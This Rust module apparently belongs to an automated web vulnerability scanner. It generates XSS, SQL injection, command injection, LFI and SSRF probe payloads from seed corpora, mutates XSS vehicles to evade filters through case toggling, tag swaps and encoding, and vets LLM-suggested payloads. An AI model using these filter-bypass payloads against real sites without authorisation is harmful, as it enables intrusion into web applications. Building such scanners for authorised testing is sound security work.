//! Hybrid payload generation: deterministic seed corpora, filter-aware
//! mutation operators, and sanitized admission of LLM candidates.

use std::collections::{BTreeMap, BTreeSet};

use once_cell::sync::Lazy;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};

use crate::state::{ContextKind, VulnClass};

pub const MARKER_SLOT: &str = "{MARKER}";

/// At most this many mutants per template per round, keeping request volume
/// inside the wall budget.
pub const MUTATION_BUDGET: usize = 24;

/// Inferred server-side transformations. Unprobed characters are absent from
/// the map: unknown is not the same as passed.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct FilterModel {
    pub char_map: BTreeMap<char, CharTransform>,
    pub blocked_tags: BTreeSet<String>,
    pub blocked_handlers: BTreeSet<String>,
    pub case_sensitive_tag_filter: bool,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "t", rename_all = "snake_case")]
pub enum CharTransform {
    Passed,
    Stripped,
    HtmlEncoded,
    UrlEncoded,
    EscapedBackslash,
    Replaced { with: String },
}

impl FilterModel {
    pub fn is_empty(&self) -> bool {
        self.blocked_tags.is_empty()
            && self.blocked_handlers.is_empty()
            && self.char_map.values().all(|t| *t == CharTransform::Passed)
    }

    fn char_blocked(&self, c: char) -> bool {
        matches!(
            self.char_map.get(&c),
            Some(
                CharTransform::Stripped
                    | CharTransform::HtmlEncoded
                    | CharTransform::UrlEncoded
                    | CharTransform::EscapedBackslash
                    | CharTransform::Replaced { .. }
            )
        )
    }
}

/// A payload shape with a `{MARKER}` slot for the per-attempt verification
/// marker.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadTemplate {
    pub vuln_class: VulnClass,
    pub template: String,
    pub required_chars: BTreeSet<char>,
    pub tags_used: BTreeSet<String>,
    pub handlers_used: BTreeSet<String>,
    #[serde(default)]
    pub context: Option<ContextKind>,
}

impl PayloadTemplate {
    /// Build a template from raw text, deriving the metadata by parsing.
    pub fn from_text(vuln_class: VulnClass, text: &str, context: Option<ContextKind>) -> Self {
        let (required_chars, tags_used, handlers_used) = derive_features(text);
        PayloadTemplate {
            vuln_class,
            template: text.to_string(),
            required_chars,
            tags_used,
            handlers_used,
            context,
        }
    }

    pub fn instantiate(&self, marker: &str) -> Vec<u8> {
        self.template.replace(MARKER_SLOT, marker).into_bytes()
    }

    pub fn marker_slots(&self) -> usize {
        self.template.matches(MARKER_SLOT).count()
    }
}

/// Metadata derivable from template text; corpus entries must agree with it.
pub fn derive_features(text: &str) -> (BTreeSet<char>, BTreeSet<String>, BTreeSet<String>) {
    let stripped = text.replace(MARKER_SLOT, "");
    let specials = "<>\"'`()=;:/- \\";
    let required: BTreeSet<char> = stripped.chars().filter(|c| specials.contains(*c)).collect();
    let mut tags = BTreeSet::new();
    let lower = stripped.to_lowercase();
    for tag in ["script", "img", "svg", "iframe", "body", "input", "style", "details"] {
        if lower.contains(&format!("<{tag}")) || lower.contains(&format!("</{tag}")) {
            tags.insert(tag.to_string());
        }
    }
    let mut handlers = BTreeSet::new();
    for handler in ["onerror", "onload", "onclick", "onfocus", "ontoggle"] {
        if lower.contains(&format!("{handler}=")) {
            handlers.insert(handler.to_string());
        }
    }
    (required, tags, handlers)
}

#[derive(Debug, Deserialize)]
struct XssSeedEntry {
    contexts: Vec<String>,
    template: String,
    required_chars: Vec<String>,
    tags_used: Vec<String>,
    handlers_used: Vec<String>,
}

#[derive(Debug, Deserialize)]
struct XssSeedFile {
    schema: String,
    seeds: Vec<XssSeedEntry>,
}

pub const XSS_SEEDS_JSON: &str = include_str!("../data/payloads/xss-seeds-v1.json");
pub const SQLI_SEEDS_JSON: &str = include_str!("../data/payloads/sqli-seeds-v1.json");
pub const CMDI_SEEDS_JSON: &str = include_str!("../data/payloads/cmdi-seeds-v1.json");
pub const LFI_SEEDS_JSON: &str = include_str!("../data/payloads/lfi-seeds-v1.json");
pub const SSRF_SEEDS_JSON: &str = include_str!("../data/payloads/ssrf-seeds-v1.json");

fn context_from_str(s: &str) -> Option<ContextKind> {
    let all = [
        ContextKind::RawHtml,
        ContextKind::AttrDoubleQuoted,
        ContextKind::AttrSingleQuoted,
        ContextKind::AttrUnquoted,
        ContextKind::JsStringSingle,
        ContextKind::JsStringDouble,
        ContextKind::JsRaw,
        ContextKind::HtmlComment,
        ContextKind::UrlAttribute,
        ContextKind::CssContext,
        ContextKind::NotReflected,
    ];
    all.iter().copied().find(|k| k.as_str() == s)
}

/// Corpus seeds keyed by context, in corpus order.
static XSS_SEEDS: Lazy<Vec<(Vec<ContextKind>, PayloadTemplate)>> = Lazy::new(|| {
    let file: XssSeedFile = serde_json::from_str(XSS_SEEDS_JSON).expect("xss corpus parses");
    assert_eq!(file.schema, "awe-seeds-v1");
    file.seeds
        .into_iter()
        .map(|entry| {
            let contexts: Vec<ContextKind> = entry
                .contexts
                .iter()
                .map(|c| context_from_str(c).expect("known context"))
                .collect();
            let template = PayloadTemplate {
                vuln_class: VulnClass::Xss,
                template: entry.template,
                required_chars: entry
                    .required_chars
                    .iter()
                    .map(|s| s.chars().next().expect("char entry"))
                    .collect(),
                tags_used: entry.tags_used.into_iter().collect(),
                handlers_used: entry.handlers_used.into_iter().collect(),
                context: contexts.first().copied(),
            };
            (contexts, template)
        })
        .collect()
});

#[derive(Debug, Deserialize)]
pub struct SqliSeeds {
    pub probes: Vec<String>,
    pub confirm_balanced_suffix: String,
    pub dump_suffixes: Vec<String>,
}

pub static SQLI_SEEDS: Lazy<SqliSeeds> =
    Lazy::new(|| serde_json::from_str(SQLI_SEEDS_JSON).expect("sqli corpus parses"));

#[derive(Debug, Deserialize)]
pub struct CmdiSeeds {
    pub echo_templates: Vec<String>,
    pub harvest_commands: Vec<String>,
    pub sleep_templates: Vec<String>,
}

pub static CMDI_SEEDS: Lazy<CmdiSeeds> =
    Lazy::new(|| serde_json::from_str(CMDI_SEEDS_JSON).expect("cmdi corpus parses"));

#[derive(Debug, Deserialize)]
pub struct LfiTarget {
    pub path: String,
    pub signature: Option<String>,
}

#[derive(Debug, Deserialize)]
pub struct LfiSeeds {
    pub max_depth: u32,
    pub targets: Vec<LfiTarget>,
}

pub static LFI_SEEDS: Lazy<LfiSeeds> =
    Lazy::new(|| serde_json::from_str(LFI_SEEDS_JSON).expect("lfi corpus parses"));

#[derive(Debug, Deserialize)]
pub struct SsrfSeeds {
    pub internal_urls: Vec<String>,
    pub internal_signatures: Vec<String>,
}

pub static SSRF_SEEDS: Lazy<SsrfSeeds> =
    Lazy::new(|| serde_json::from_str(SSRF_SEEDS_JSON).expect("ssrf corpus parses"));

/// Fixed, version-controlled seed list filtered to context compatibility.
/// Order is deterministic: corpus order, context-compatible entries only.
pub fn seed_payloads(
    vuln_class: VulnClass,
    context: Option<&crate::state::ReflectionContext>,
) -> Vec<PayloadTemplate> {
    match vuln_class {
        VulnClass::Xss => {
            let kind = context.map(|c| c.kind).unwrap_or(ContextKind::RawHtml);
            let mut out: Vec<PayloadTemplate> = XSS_SEEDS
                .iter()
                .filter(|(contexts, _)| contexts.contains(&kind))
                .map(|(_, t)| t.clone())
                .collect();
            if out.is_empty() {
                // Unknown context falls back to the raw-HTML seed set.
                out = XSS_SEEDS
                    .iter()
                    .filter(|(contexts, _)| contexts.contains(&ContextKind::RawHtml))
                    .map(|(_, t)| t.clone())
                    .collect();
            }
            for t in &mut out {
                t.context = Some(kind);
            }
            out
        }
        VulnClass::SqliError => SQLI_SEEDS
            .probes
            .iter()
            .map(|p| PayloadTemplate::from_text(VulnClass::SqliError, p, None))
            .collect(),
        VulnClass::Cmdi => CMDI_SEEDS
            .echo_templates
            .iter()
            .map(|p| PayloadTemplate::from_text(VulnClass::Cmdi, p, None))
            .collect(),
        _ => Vec::new(),
    }
}

/// Reasons an LLM candidate is turned away.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum RejectReason {
    BlockedTag,
    BlockedHandler,
    BlockedChar,
    Duplicate,
    NoMarkerSlot,
    Empty,
}

/// Why a template fails the current filter model, if it does.
pub fn violates(template: &PayloadTemplate, filter: &FilterModel) -> Option<RejectReason> {
    let text = template.template.replace(MARKER_SLOT, "");
    for tag in &filter.blocked_tags {
        let open = format!("<{tag}");
        let close = format!("</{tag}");
        let hit = if filter.case_sensitive_tag_filter {
            text.contains(&open) || text.contains(&close)
        } else {
            let lower = text.to_lowercase();
            lower.contains(&open) || lower.contains(&close)
        };
        if hit {
            return Some(RejectReason::BlockedTag);
        }
    }
    let lower = text.to_lowercase();
    for handler in &filter.blocked_handlers {
        if lower.contains(&format!("{handler}=")) {
            return Some(RejectReason::BlockedHandler);
        }
    }
    for c in text.chars() {
        if filter.char_blocked(c) {
            return Some(RejectReason::BlockedChar);
        }
    }
    None
}

/// An execution construct extracted from a template: breakout prefix, the
/// tag/handler vehicle, the JS call, and any trailing suffix.
struct Construct {
    prefix: String,
    call: String,
    suffix: String,
}

/// Known vehicle shapes, all carrying the same JS call. Formatting variants
/// (slash separators) are derived from these.
fn vehicle_forms(call: &str) -> Vec<(&'static str, &'static str, String)> {
    vec![
        ("script", "", format!("<script>{call}</script>")),
        ("img", "onerror", format!("<img src=x onerror={call}>")),
        ("svg", "onload", format!("<svg onload={call}>")),
        ("input", "onfocus", format!("<input autofocus onfocus={call}>")),
        ("body", "onload", format!("<body onload={call}>")),
        ("iframe", "onload", format!("<iframe onload={call}>")),
    ]
}

fn slashed_form(tag: &str, call: &str) -> Option<String> {
    match tag {
        "img" => Some(format!("<img/src='x'/onerror={call}>")),
        "svg" => Some(format!("<svg/onload={call}>")),
        "input" => Some(format!("<input/autofocus/onfocus={call}>")),
        "body" => Some(format!("<body/onload={call}>")),
        "iframe" => Some(format!("<iframe/onload={call}>")),
        _ => None,
    }
}

static CONSTRUCT_RES: Lazy<Vec<(String, regex::Regex)>> = Lazy::new(|| {
    vec![
        (
            "script".to_string(),
            regex::Regex::new(r"(?s)^(.*?)<script>(.*?)</script>(.*)$").expect("script construct"),
        ),
        (
            "img".to_string(),
            regex::Regex::new(r"(?s)^(.*?)<img src=x onerror=(.*?)>(.*)$").expect("img construct"),
        ),
        (
            "svg".to_string(),
            regex::Regex::new(r"(?s)^(.*?)<svg onload=(.*?)>(.*)$").expect("svg construct"),
        ),
        (
            "input".to_string(),
            regex::Regex::new(r"(?s)^(.*?)<input autofocus onfocus=(.*?)>(.*)$")
                .expect("input construct"),
        ),
    ]
});

fn extract_construct(template: &str) -> Option<(String, Construct)> {
    for (tag, re) in CONSTRUCT_RES.iter() {
        if let Some(caps) = re.captures(template) {
            return Some((
                tag.clone(),
                Construct {
                    prefix: caps[1].to_string(),
                    call: caps[2].to_string(),
                    suffix: caps[3].to_string(),
                },
            ));
        }
    }
    None
}

fn toggle_case(word: &str) -> String {
    word.chars()
        .enumerate()
        .map(|(i, c)| if i % 2 == 1 { c.to_ascii_uppercase() } else { c })
        .collect()
}

/// Apply only mutations that address a specific violated constraint; the
/// output never contains a template still violating the filter model.
pub fn mutate(template: &PayloadTemplate, filter: &FilterModel) -> Vec<PayloadTemplate> {
    if filter.is_empty() || violates(template, filter).is_none() {
        return vec![template.clone()];
    }

    let mut candidates: Vec<String> = Vec::new();
    let construct = extract_construct(&template.template);

    // Case toggling defeats case-sensitive tag blocklists.
    if filter.case_sensitive_tag_filter
        && template.tags_used.iter().any(|t| filter.blocked_tags.contains(t))
    {
        let mut text = template.template.clone();
        for tag in template.tags_used.iter().filter(|t| filter.blocked_tags.contains(*t)) {
            let toggled = toggle_case(tag);
            text = text
                .replace(&format!("<{tag}"), &format!("<{toggled}"))
                .replace(&format!("</{tag}"), &format!("</{toggled}"));
        }
        candidates.push(text);
    }

    // Vehicle substitution when the tag or handler family is blocked.
    let tag_conflict = template.tags_used.iter().any(|t| filter.blocked_tags.contains(t));
    let handler_conflict =
        template.handlers_used.iter().any(|h| filter.blocked_handlers.contains(h));
    if tag_conflict || handler_conflict {
        if let Some((_, c)) = &construct {
            for (tag, handler, form) in vehicle_forms(&c.call) {
                let tag_ok = !filter.blocked_tags.contains(tag)
                    || (filter.case_sensitive_tag_filter && false);
                let handler_ok = handler.is_empty() || !filter.blocked_handlers.contains(handler);
                if tag_ok && handler_ok {
                    candidates.push(format!("{}{}{}", c.prefix, form, c.suffix));
                }
            }
        }
    }

    // Separator rewrites when spaces are stripped.
    if filter.char_blocked(' ') && template.template.contains(' ') {
        if let Some((tag, c)) = &construct {
            if let Some(form) = slashed_form(tag, &c.call) {
                candidates.push(format!("{}{}{}", c.prefix, form, c.suffix));
            }
        }
        candidates.push(template.template.replace(' ', "\t"));
    }

    // Entity/URL encoding of blocked characters where the context decodes
    // them: handler attribute values decode entities, URL attributes decode
    // percent escapes. The leading breakout character must stay raw.
    let decodes_entities = matches!(
        template.context,
        Some(
            ContextKind::AttrDoubleQuoted | ContextKind::AttrSingleQuoted | ContextKind::AttrUnquoted
        )
    );
    let decodes_percent = matches!(template.context, Some(ContextKind::UrlAttribute));
    if decodes_entities || decodes_percent {
        let breakout = template.template.chars().next();
        let encodable: Vec<char> = template
            .required_chars
            .iter()
            .copied()
            .filter(|c| filter.char_blocked(*c) && Some(*c) != breakout)
            .filter(|c| matches!(c, '\'' | '"' | '(' | ')' | '<' | '>' | '`'))
            .collect();
        if !encodable.is_empty() {
            let mut text = String::new();
            for (i, ch) in template.template.chars().enumerate() {
                if encodable.contains(&ch) && i > 0 {
                    if decodes_percent {
                        text.push_str(&format!("%{:02X}", ch as u32));
                    } else {
                        text.push_str(&format!("&#x{:x};", ch as u32));
                    }
                } else {
                    text.push(ch);
                }
            }
            candidates.push(text);
        }
    }

    // Keep only mutants that now satisfy the model, dedup, cap.
    let mut seen = BTreeSet::new();
    let mut out = Vec::new();
    for text in candidates {
        if !seen.insert(text.clone()) {
            continue;
        }
        let mut t = PayloadTemplate::from_text(template.vuln_class, &text, template.context);
        // Case-toggled variants keep their lowercase tag metadata for
        // bookkeeping even though the literal text changed case.
        t.tags_used = template.tags_used.clone();
        if check_mutant(&t, filter) {
            out.push(t);
        }
        if out.len() >= MUTATION_BUDGET {
            break;
        }
    }
    out
}

/// Violation check for mutated text: literal, case-aware.
fn check_mutant(template: &PayloadTemplate, filter: &FilterModel) -> bool {
    let text = template.template.replace(MARKER_SLOT, "");
    for tag in &filter.blocked_tags {
        let open = format!("<{tag}");
        let close = format!("</{tag}");
        let hit = if filter.case_sensitive_tag_filter {
            text.contains(&open) || text.contains(&close)
        } else {
            let lower = text.to_lowercase();
            lower.contains(&open) || lower.contains(&close)
        };
        if hit {
            return false;
        }
    }
    let lower = text.to_lowercase();
    for handler in &filter.blocked_handlers {
        if lower.contains(&format!("{handler}=")) {
            return false;
        }
    }
    !text.chars().any(|c| filter.char_blocked(c))
}

/// Outcome of admitting one LLM candidate.
#[derive(Debug, Clone)]
pub enum Admission {
    Admitted(PayloadTemplate),
    Rejected { candidate: String, reason: RejectReason },
}

/// Parse raw LLM candidate strings into templates, dropping anything that
/// violates the known filter model or repeats a tried payload.
pub fn admit_llm_candidates(
    candidates: &[String],
    vuln_class: VulnClass,
    filter: &FilterModel,
    context: Option<ContextKind>,
    already_tried: &dyn Fn(&str) -> bool,
) -> Vec<Admission> {
    let mut out = Vec::new();
    for raw in candidates {
        let trimmed = raw.trim();
        if trimmed.is_empty() {
            out.push(Admission::Rejected { candidate: raw.clone(), reason: RejectReason::Empty });
            continue;
        }
        let with_slot = if vuln_class == VulnClass::Xss {
            match normalize_marker_slot(trimmed) {
                Some(t) => t,
                None => {
                    out.push(Admission::Rejected {
                        candidate: raw.clone(),
                        reason: RejectReason::NoMarkerSlot,
                    });
                    continue;
                }
            }
        } else {
            trimmed.to_string()
        };
        if already_tried(&with_slot) {
            out.push(Admission::Rejected {
                candidate: raw.clone(),
                reason: RejectReason::Duplicate,
            });
            continue;
        }
        let template = PayloadTemplate::from_text(vuln_class, &with_slot, context);
        match violates(&template, filter) {
            Some(reason) => out.push(Admission::Rejected { candidate: raw.clone(), reason }),
            None => out.push(Admission::Admitted(template)),
        }
    }
    out
}

static SINK_CALL: Lazy<regex::Regex> = Lazy::new(|| {
    regex::Regex::new(r"(awe_hook|alert|confirm|prompt)\(\s*(['\x60])([^'\x60\)]*)(['\x60])\s*\)")
        .expect("sink call pattern")
});

/// Ensure an XSS candidate carries exactly one `{MARKER}` slot, rewriting a
/// recognizable sink argument when necessary.
fn normalize_marker_slot(candidate: &str) -> Option<String> {
    match candidate.matches(MARKER_SLOT).count() {
        1 => Some(candidate.to_string()),
        0 => {
            if SINK_CALL.is_match(candidate) {
                let rewritten = SINK_CALL
                    .replace(candidate, format!("$1($2{MARKER_SLOT}$4)").as_str())
                    .into_owned();
                (rewritten.matches(MARKER_SLOT).count() == 1).then_some(rewritten)
            } else {
                None
            }
        }
        _ => None,
    }
}

/// Scan-scoped marker generator: `AWE` + 8 hex chars from a seeded PRNG, so
/// markers are greppable, collision-improbable, and reproducible under a
/// fixed seed.
#[derive(Debug)]
pub struct MarkerGen {
    rng: ChaCha8Rng,
}

impl MarkerGen {
    pub fn new(seed: u64) -> Self {
        MarkerGen { rng: ChaCha8Rng::seed_from_u64(seed) }
    }

    pub fn next_marker(&mut self) -> String {
        let mut hex = String::with_capacity(8);
        for _ in 0..8 {
            hex.push(char::from_digit(self.rng.gen_range(0..16) as u32, 16).expect("hex digit"));
        }
        format!("AWE{hex}")
    }

    /// Scan-unique integers for computed-marker probes.
    pub fn next_int(&mut self, lo: u64, hi: u64) -> u64 {
        self.rng.gen_range(lo..hi)
    }
}
